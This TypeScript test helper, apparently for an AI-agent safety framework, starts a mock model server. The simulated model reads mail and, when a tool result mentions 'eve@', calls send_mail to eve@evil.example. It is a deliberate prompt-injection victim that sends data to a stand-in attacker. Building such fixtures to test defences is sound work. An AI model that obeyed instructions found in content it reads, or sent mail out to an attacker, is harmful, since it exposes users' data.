import { startMockModelServer, type MockModelServer, type MockReply } from 'plimsoll/testing';

/** A model that is none: it repeats what it was asked, and takes orders from whatever it reads. */
export function startSimulatedModel(): Promise<MockModelServer> {
  return startMockModelServer({
    reply({ path, body, prompt }) {
      return path.endsWith('/language-model') ? gatewayReply(body as GatewayRequest) : `You asked: ${prompt}`;
    },
  });
}

interface GatewayRequest {
  readonly prompt: readonly { readonly role: string; readonly content: unknown }[];
}

/** In the wire format of the AI SDK's gateway: first it reads the mail, then it does what the mail says. */
function gatewayReply({ prompt }: GatewayRequest): MockReply {
  const results = JSON.stringify(prompt.filter(({ role }) => role === 'tool'));
  const call = (toolName: string, input: object): object => ({
    type: 'tool-call',
    toolCallId: `${toolName}-1`,
    toolName,
    input: JSON.stringify(input),
  });
  const content =
    results === '[]'
      ? [call('read_mail', {})]
      : results.includes('eve@')
        ? [call('send_mail', { to: 'eve@evil.example' })]
        : [{ type: 'text', text: 'Nothing new.' }];
  const unified = content.some(({ type }: { type?: string }) => type === 'tool-call') ? 'tool-calls' : 'stop';
  const usage = { inputTokens: { total: 1 }, outputTokens: { total: 1 } };
  return { json: { content, usage, finishReason: { unified, raw: unified }, warnings: [] } as never };
}
